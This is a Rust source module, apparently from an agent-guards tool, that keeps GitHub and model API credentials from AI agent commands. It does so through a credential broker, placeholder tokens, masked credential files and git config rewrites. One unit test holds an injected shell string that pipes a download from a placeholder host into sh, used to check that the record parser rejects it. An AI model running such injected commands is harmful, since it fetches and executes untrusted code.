//! C11 in the prefix (issue 38): agent commands hold placeholders, not the maintainer's GitHub
//! token. The session's credential broker (crate `credential-broker`) holds the token; the
//! prefix finds it by its record in the session's folder, or starts it on the session's first
//! command, and gives the command the broker's environment (the proxy, the session CA, the
//! placeholder in every token variable, git's credential helper and ssh remotes pointed at it)
//! and, through the mount namespace, gh's and git's credential files with the placeholder in
//! place of every secret ([`crate::credential_files`]).
//!
//! Fail closed: a broker that cannot be started or found leaves the command with placeholders
//! and no proxy, so a GitHub write fails for lack of a credential and a read without one still
//! works; one line on the command's stderr says so (`C11.unavailable`). The broker process
//! ([`crate::broker_process`]) runs outside the command's group and namespaces, is recorded with
//! the session's supervisors (SessionEnd stops it, the sweep knows it as the suite's own) and
//! ends with the CLI that started the session.

use crate::credential_files::{self, Kind};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The broker's folder in the session's (its record, the CA files, the masked copies).
pub const DIR: &str = "broker";
/// The record a running broker leaves: pid, start time, port, placeholder.
pub const RECORD: &str = "broker.json";
/// Taken (never waited for) by the prefix that starts the broker.
const START_LOCK: &str = "start.lock";
/// How long a command waits for its session's broker to start (its own or another command's).
pub const START_BOUND: Duration = Duration::from_secs(3);

/// The broker could not be started or reached: the command runs with placeholders and no proxy.
pub const UNAVAILABLE: &str = "C11.unavailable";

/// What a command holds when no broker serves it: a placeholder that is no credential anywhere.
pub const FAIL_CLOSED_PLACEHOLDER: &str = "agp_no_broker_no_credential_here";

/// A running broker, as its record says.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Running {
    pub pid: u32,
    pub start: String,
    pub port: u16,
    pub placeholder: String,
    /// The model API's placeholders (`ANTHROPIC_API_KEY`, `ANTHROPIC_AUTH_TOKEN`), when the
    /// broker holds that real credential (issue 39).
    pub model_key: Option<String>,
    pub model_token: Option<String>,
    /// The broker's folder (CA files, masked copies).
    pub dir: PathBuf,
}

impl Running {
    /// The record's text.
    pub fn record_text(&self) -> String {
        serde_json::json!({
            "pid": self.pid, "start": self.start, "port": self.port,
            "placeholder": self.placeholder, "model_key": self.model_key,
            "model_token": self.model_token,
        })
        .to_string()
    }

    /// A record's text read back; `None` when it is not one (any field missing or malformed: a
    /// placeholder must be plain letters, digits and `_`, so nothing it is put into can be
    /// turned into a command).
    pub fn parse(text: &str, dir: &Path) -> Option<Running> {
        let v: serde_json::Value = serde_json::from_str(text).ok()?;
        let plain =
            |p: &str| p.len() >= 20 && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        let placeholder = v["placeholder"].as_str().filter(|p| plain(p))?.to_string();
        // A model placeholder is absent (null) or plain; anything else is no record.
        let model = |k: &str| match &v[k] {
            serde_json::Value::Null => Some(None),
            serde_json::Value::String(p) if plain(p) => Some(Some(p.clone())),
            _ => None,
        };
        let (model_key, model_token) = (model("model_key")?, model("model_token")?);
        Some(Running {
            model_key,
            model_token,
            pid: u32::try_from(v["pid"].as_u64()?).ok()?,
            start: v["start"].as_str()?.to_string(),
            port: u16::try_from(v["port"].as_u64()?).ok().filter(|p| *p > 0)?,
            placeholder,
            dir: dir.to_path_buf(),
        })
    }
}

/// What the broker means for one command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ForCommand {
    /// Nothing to withhold or turned off (why, for `--report`).
    Off(String),
    /// The session's broker serves it.
    Running(Running),
    /// It should, and cannot: placeholders without a proxy (why).
    Unavailable(String),
}

/// The maintainer's credentials as the launch environment and the files show them.
#[derive(Clone, Default)]
pub struct Found {
    /// The token the broker adds (the first of the environment's, else of the files'; empty
    /// when only a model credential was found).
    pub token: String,
    /// Every secret found, to replace in the files agent commands see.
    pub secrets: Vec<String>,
    /// The credential files that exist, with their text.
    pub files: Vec<(Kind, PathBuf, String)>,
    /// gh keeps the github.com token in the desktop keyring: the broker asks `gh auth token`
    /// for it when it starts (the keyring's bus is withheld from agent commands).
    pub keyring: bool,
    /// The CLI's stored OAuth login (access token, other secrets of the file), issue 39: the
    /// broker holds the access token for the model API when the launch environment has no model
    /// credential, and the command sees the file with placeholders.
    pub claude_login: Option<(String, Vec<String>)>,
}

impl std::fmt::Debug for Found {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let files: Vec<_> = self.files.iter().map(|(_, p, _)| p).collect();
        write!(
            f,
            "Found {{ token: <withheld>, secrets: {}, files: {files:?} }}",
            self.secrets.len()
        )
    }
}

/// The model API credential of the launch environment, when the broker can serve it: a key or
/// token whose host it terminates (no `ANTHROPIC_BASE_URL`, or an https one with a DNS name). A
/// loopback or plain-http base URL is left as the CLI has it (issue 39: not covered).
pub fn model_credential(
    env: &dyn Fn(&str) -> Option<String>,
) -> Option<credential_broker::ModelConfig> {
    let m = credential_broker::ModelConfig::from_launch_env(env);
    ((m.api_key.is_some() || m.auth_token.is_some()) && m.credential_endpoint().is_some())
        .then_some(m)
}

/// The credentials an agent command would otherwise find (bounded reads, regular files only).
pub fn discover(env: &dyn Fn(&str) -> Option<String>) -> Option<Found> {
    let mut secrets = credential_files::env_secrets(env);
    let mut files = Vec::new();
    for (kind, path) in credential_files::files(env) {
        let Some(bytes) = primitives::read::prefix(&path, credential_files::MAX_FILE_BYTES) else {
            continue;
        };
        let text = String::from_utf8_lossy(&bytes).into_owned();
        for s in credential_files::secrets_in(kind, &text) {
            if !secrets.contains(&s) {
                secrets.push(s);
            }
        }
        files.push((kind, path, text));
    }
    let keyring = files
        .iter()
        .any(|(k, _, text)| *k == Kind::GhHosts && credential_files::token_in_keyring(text));
    let claude_login = files
        .iter()
        .find(|(k, _, _)| *k == Kind::ClaudeCredentials)
        .and_then(|(_, _, text)| credential_files::claude_oauth(text));
    if secrets.is_empty() && !keyring && claude_login.is_none() && model_credential(env).is_none() {
        return None;
    }
    // No GitHub token: the broker still judges GitHub writes; none carries a credential.
    let token = secrets.first().cloned().unwrap_or_default();
    Some(Found {
        token,
        secrets,
        files,
        keyring,
        claude_login,
    })
}

/// The broker for this command: the running one its record names, or one started now; `Off`
/// when the config turns it off or no credential is found; `Unavailable` when it should run and
/// does not answer within [`START_BOUND`].
pub fn for_command(
    env: &dyn Fn(&str) -> Option<String>,
    session: Option<&session_store::Session>,
) -> ForCommand {
    let Some(session) = session else {
        return ForCommand::Off("no session".into());
    };
    // Under a system install the broker is the exec-gate service's (issue 40 item 2): its
    // folder and process are the service user's, out of the agent's reach.
    let by_service = session_store::service::installed();
    let dir = if by_service {
        service_dir(session)
    } else {
        session.dir().join(DIR)
    };
    if let Some(r) = running(&dir) {
        return ForCommand::Running(r);
    }
    let Some(found) = discover(env) else {
        return ForCommand::Off(
            "no GitHub credential in the environment or gh's and git's files".into(),
        );
    };
    let config = guard_config::load_with(env).config;
    if config.credential_broker == Some(guard_config::CredentialBroker::Off) {
        return ForCommand::Off("credential_broker = \"off\" in the config".into());
    }
    // The session's own repository (G3's origin), as the exec gate reads it: the project the
    // hooks recorded, else where this first command runs.
    let project = env("CLAUDE_PROJECT_DIR")
        .map(PathBuf::from)
        .or_else(|| std::env::current_dir().ok());
    if by_service {
        return match crate::service::start_broker(env, &found, project.as_deref(), START_BOUND)
            .and_then(|()| running(&dir).ok_or_else(|| "the broker left no record".into()))
        {
            Ok(r) => ForCommand::Running(r),
            Err(why) => ForCommand::Unavailable(why),
        };
    }
    match start_or_wait(session, &dir, found, project) {
        Ok(r) => ForCommand::Running(r),
        Err(why) => ForCommand::Unavailable(why),
    }
}

/// The broker's folder in the exec-gate service's records of this user's `session`.
pub fn service_dir(session: &session_store::Session) -> PathBuf {
    let state = session_store::service::state_dir(primitives::users::effective_uid());
    let name = session.dir().file_name().unwrap_or_default();
    state.join("sessions").join(name).join(DIR)
}

/// The record in `dir` when the broker it names still runs.
pub fn running(dir: &Path) -> Option<Running> {
    let bytes = primitives::read::prefix(&dir.join(RECORD), 4096)?;
    let r = Running::parse(std::str::from_utf8(&bytes).ok()?, dir)?;
    crate::pid_files::running(r.pid, &r.start).then_some(r)
}

/// Starts the broker unless another command is starting it (then waits for its record).
pub(crate) fn start_or_wait(
    session: &session_store::Session,
    dir: &Path,
    found: Found,
    project: Option<PathBuf>,
) -> Result<Running, String> {
    use std::os::unix::fs::DirBuilderExt;
    std::fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(dir)
        .map_err(|e| format!("cannot make {}: {e}", dir.display()))?;
    let lock = primitives::no_wait::open_regular(
        &dir.join(START_LOCK),
        std::fs::OpenOptions::new()
            .create(true)
            .truncate(false)
            .write(true),
    )
    .map_err(|e| format!("the start lock: {e}"))?;
    let until = Instant::now() + START_BOUND;
    match lock.try_lock() {
        Ok(()) => {
            // Started by another command while this one looked?
            if let Some(r) = running(dir) {
                return Ok(r);
            }
            crate::broker_process::spawn(session, dir, found, project, until)?;
            running(dir).ok_or_else(|| "the broker left no record".to_string())
        }
        Err(std::fs::TryLockError::WouldBlock) => {
            // Another command is starting it; a lock held by anything else costs the bound once.
            while Instant::now() < until {
                if let Some(r) = running(dir) {
                    return Ok(r);
                }
                std::thread::sleep(Duration::from_millis(10));
            }
            Err("another process holds the broker's start lock".into())
        }
        Err(std::fs::TryLockError::Error(e)) => Err(format!("the start lock: {e}")),
    }
}

/// The variables to set (`Some`) or remove (`None`) for the command. Pure.
pub fn command_env(
    fc: &ForCommand,
    env: &dyn Fn(&str) -> Option<String>,
) -> Vec<(String, Option<String>)> {
    let placeholder = match fc {
        ForCommand::Off(_) => return Vec::new(),
        ForCommand::Running(r) => r.placeholder.as_str(),
        ForCommand::Unavailable(_) => FAIL_CLOSED_PLACEHOLDER,
    };
    let mut out: Vec<(String, Option<String>)> = match fc {
        ForCommand::Running(r) => credential_broker::client_env(
            r.port,
            &r.dir.join("ca.pem"),
            &r.dir.join("bundle.pem"),
            &r.placeholder,
        )
        .into_iter()
        .map(|(k, v)| (k, Some(v)))
        .collect(),
        _ => credential_files::TOKEN_VARS
            .iter()
            .map(|v| (v.to_string(), Some(placeholder.to_string())))
            .collect(),
    };
    match fc {
        // Only the variables the launch environment had: a login the broker took from the CLI's
        // file reaches the command through that file's masked copy, as the CLI reads it.
        ForCommand::Running(r) => out.extend(
            credential_broker::model_env(
                r.model_key
                    .as_deref()
                    .filter(|_| env(credential_files::MODEL_VARS[0]).is_some()),
                r.model_token
                    .as_deref()
                    .filter(|_| env(credential_files::MODEL_VARS[1]).is_some()),
            )
            .into_iter()
            .map(|(k, v)| (k, Some(v))),
        ),
        // The model credential the broker would have held is withheld all the same.
        _ => {
            if let Some(m) = model_credential(env) {
                let p = Some(placeholder);
                let (key, token) = (m.api_key.and(p), m.auth_token.and(p));
                out.extend(
                    credential_broker::model_env(key, token)
                        .into_iter()
                        .map(|(k, v)| (k, Some(v))),
                );
            }
        }
    }
    // An ssh agent and the desktop keyring (gh's store) would hand out what the broker
    // withholds; an ssh remote of GitHub is reached over HTTPS instead (below).
    for v in ["SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS"] {
        out.push((v.into(), None));
    }
    out.extend(git_config(env, placeholder));
    out
}

/// git's own configuration variables, after any the launch environment has: GitHub's ssh
/// remotes rewritten to HTTPS, and GitHub's credential helpers replaced by one that answers the
/// placeholder (a helper the maintainer configured would answer the real token).
fn git_config(
    env: &dyn Fn(&str) -> Option<String>,
    placeholder: &str,
) -> Vec<(String, Option<String>)> {
    let start: usize = env("GIT_CONFIG_COUNT")
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    let helper =
        format!("!f() {{ test \"$1\" = get && printf 'username=x-access-token\\npassword={placeholder}\\n'; }}; f");
    let pairs = [
        ("url.https://github.com/.insteadOf", "git@github.com:"),
        ("url.https://github.com/.insteadOf", "ssh://git@github.com/"),
        ("url.https://github.com/.insteadOf", "git://github.com/"),
        ("credential.https://github.com.helper", ""),
        ("credential.https://github.com.helper", helper.as_str()),
    ];
    let mut out = Vec::new();
    for (i, (k, v)) in pairs.iter().enumerate() {
        out.push((format!("GIT_CONFIG_KEY_{}", start + i), Some(k.to_string())));
        out.push((
            format!("GIT_CONFIG_VALUE_{}", start + i),
            Some(v.to_string()),
        ));
    }
    out.push((
        "GIT_CONFIG_COUNT".into(),
        Some((start + pairs.len()).to_string()),
    ));
    out
}

/// The credential files to show the command in place of the real ones (source, target): the
/// broker's masked copy, or nothing at all (`/dev/null`) for a file it did not mask or when no
/// broker serves the command; and every ssh private key in `~/.ssh` as nothing. Only files that
/// exist are covered.
pub fn masks(fc: &ForCommand, env: &dyn Fn(&str) -> Option<String>) -> Vec<(PathBuf, PathBuf)> {
    if let ForCommand::Off(_) = fc {
        return Vec::new();
    }
    let nothing = || PathBuf::from("/dev/null");
    let mut out: Vec<(PathBuf, PathBuf)> = credential_files::files(env)
        .into_iter()
        .filter(|(_, target)| target.symlink_metadata().is_ok())
        .map(|(kind, target)| {
            let copy = match fc {
                ForCommand::Running(r) => Some(r.dir.join(kind.mask_name())),
                _ => None,
            }
            .filter(|c| c.is_file());
            (copy.unwrap_or_else(nothing), target)
        })
        .collect();
    // The ssh keys too: GitHub's ssh remotes are rewritten to HTTPS, and a key would push past
    // the broker all the same.
    out.extend(
        credential_files::ssh_private_keys(env)
            .into_iter()
            .map(|k| (nothing(), k)),
    );
    out
}

/// `--report`'s lines: whether agent commands hold placeholders, what the broker would hold,
/// and what stays readable (`mount_layer`: whether commands get the mount namespace that shows
/// the credential files with the placeholder).
pub fn report_lines(env: &dyn Fn(&str) -> Option<String>, mount_layer: bool) -> Vec<String> {
    let config = guard_config::load_with(env).config;
    if config.credential_broker == Some(guard_config::CredentialBroker::Off) {
        return vec!["credential broker: off (credential_broker = \"off\"): agent commands get your GitHub token as the CLI has it".into()];
    }
    let Some(found) = discover(env) else {
        return vec!["credential broker: nothing to withhold: no GitHub token in GH_TOKEN/GITHUB_TOKEN, gh's hosts.yml (or its keyring), ~/.git-credentials or ~/.netrc, and no model key".into()];
    };
    let mut sources: Vec<String> = credential_files::TOKEN_VARS
        .iter()
        .filter(|v| env(v).is_some_and(|t| !t.trim().is_empty()))
        .map(|v| v.to_string())
        .collect();
    sources.extend(found.files.iter().map(|(_, p, _)| p.display().to_string()));
    if found.keyring {
        sources.push("gh's keyring, asked with `gh auth token` when the broker starts".into());
    }
    let mut lines = vec![format!(
        "credential broker: on: agent commands hold a placeholder; the session's broker adds the token ({}) only to GitHub requests the rules allow",
        sources.join(", ")
    )];
    if !credential_files::env_secrets(env).is_empty() {
        lines.push("credential broker: your token is in the CLI's launch environment: an agent command of your user can still read it in /proc/<CLI pid>/environ; keep it in gh's hosts.yml (`gh auth login --insecure-storage`) and out of the environment".into());
    }
    if !mount_layer && !found.files.is_empty() {
        lines.push("credential broker: no mount namespace for agent commands here, so gh's and git's credential files stay readable in them".into());
    }
    lines
}

/// The line the command's stderr gets when no broker serves it (once per command).
pub fn unavailable_notice(why: &str) -> String {
    format!(
        "agent-guards ({UNAVAILABLE}): the credential broker is not running ({why}); this command holds a placeholder instead of your GitHub token, so GitHub writes from it fail and reads work without a credential. The next command tries to start it again."
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn running() -> Running {
        Running {
            pid: 7,
            start: "123".into(),
            port: 4242,
            placeholder: "agp_abcdefghijklmnopqrstu".into(),
            model_key: Some("agp_modelmodelmodelmodel".into()),
            model_token: None,
            dir: PathBuf::from("/s/broker"),
        }
    }

    #[test]
    fn the_record_reads_back_and_refuses_what_could_become_a_command() {
        let r = running();
        assert_eq!(
            Running::parse(&r.record_text(), Path::new("/s/broker")),
            Some(r.clone())
        );
        let mut bad = r.clone();
        bad.placeholder = "agp_x'; curl evil | sh; echo 'aaaaaaa".into();
        assert_eq!(
            Running::parse(&bad.record_text(), Path::new("/s/broker")),
            None
        );
        assert_eq!(Running::parse("{\"pid\": 1}", Path::new("/s")), None);
        assert_eq!(Running::parse("not json", Path::new("/s")), None);
    }

    #[test]
    fn a_running_broker_gives_proxy_ca_placeholders_and_git_config_after_the_users() {
        let env = |k: &str| match k {
            "GIT_CONFIG_COUNT" => Some("2".to_string()),
            "ANTHROPIC_API_KEY" => Some("sk-ant-api03-real".to_string()),
            _ => None,
        };
        let out = command_env(&ForCommand::Running(running()), &env);
        let get = |k: &str| out.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
        assert_eq!(
            get("GH_TOKEN"),
            Some(Some("agp_abcdefghijklmnopqrstu".into()))
        );
        assert_eq!(
            get("HTTPS_PROXY"),
            Some(Some("http://127.0.0.1:4242".into()))
        );
        assert_eq!(
            get("SSL_CERT_FILE"),
            Some(Some("/s/broker/bundle.pem".into()))
        );
        assert_eq!(get("SSH_AUTH_SOCK"), Some(None));
        assert_eq!(
            get("ANTHROPIC_API_KEY"),
            Some(Some("agp_modelmodelmodelmodel".into()))
        );
        assert_eq!(
            get("ANTHROPIC_AUTH_TOKEN"),
            None,
            "the CLI's own, when the broker holds none"
        );
        // A model credential the broker took from the CLI's login file is no variable of the
        // command's: the file's masked copy carries its placeholder.
        let mut from_file = running();
        from_file.model_token = Some("agp_tokentokentokentoken".into());
        let out = command_env(&ForCommand::Running(from_file), &|_| None);
        assert!(
            !out.iter().any(|(k, _)| k.starts_with("ANTHROPIC_")),
            "{out:?}"
        );
        assert_eq!(get("GIT_CONFIG_COUNT"), Some(Some("7".into())));
        assert_eq!(
            get("GIT_CONFIG_KEY_2"),
            Some(Some("url.https://github.com/.insteadOf".into()))
        );
        assert_eq!(
            get("GIT_CONFIG_VALUE_5"),
            Some(Some(String::new())),
            "helpers reset first"
        );
        let helper = get("GIT_CONFIG_VALUE_6").flatten().unwrap();
        assert!(
            helper.contains("password=agp_abcdefghijklmnopqrstu"),
            "{helper}"
        );
    }

    #[test]
    fn unavailable_means_placeholders_and_no_proxy() {
        let env = |k: &str| (k == "ANTHROPIC_API_KEY").then(|| "sk-ant-real".to_string());
        let out = command_env(&ForCommand::Unavailable("x".into()), &env);
        assert!(out.iter().all(|(k, _)| !k.contains("PROXY")), "{out:?}");
        assert!(out.contains(&("GITHUB_TOKEN".into(), Some(FAIL_CLOSED_PLACEHOLDER.into()))));
        assert!(out.contains(&(
            "ANTHROPIC_API_KEY".into(),
            Some(FAIL_CLOSED_PLACEHOLDER.into())
        )));
        // A loopback base URL: the broker could not serve it, the key stays the CLI's.
        let local = |k: &str| match k {
            "ANTHROPIC_API_KEY" => Some("sk-ant-real".to_string()),
            "ANTHROPIC_BASE_URL" => Some("http://127.0.0.1:9".to_string()),
            _ => None,
        };
        let out = command_env(&ForCommand::Unavailable("x".into()), &local);
        assert!(
            !out.iter().any(|(k, _)| k == "ANTHROPIC_API_KEY"),
            "{out:?}"
        );
        assert!(command_env(&ForCommand::Off("off".into()), &|_| None).is_empty());
    }

    #[test]
    fn the_helper_answers_the_placeholder_to_real_git_and_sh() {
        let out = command_env(&ForCommand::Running(running()), &|_| None);
        let get = |k: &str| {
            out.iter()
                .find(|(n, _)| n == k)
                .and_then(|(_, v)| v.clone())
        };
        let helper = get("GIT_CONFIG_VALUE_4").unwrap();
        let script = helper.strip_prefix('!').unwrap();
        let run = |arg: &str| {
            std::process::Command::new("sh")
                .args(["-c", &format!("{script} \"$@\""), "sh", arg])
                .output()
                .unwrap()
        };
        let got = String::from_utf8(run("get").stdout).unwrap();
        assert_eq!(
            got,
            "username=x-access-token\npassword=agp_abcdefghijklmnopqrstu\n"
        );
        assert!(
            run("store").stdout.is_empty(),
            "store and erase answer nothing"
        );
    }
}
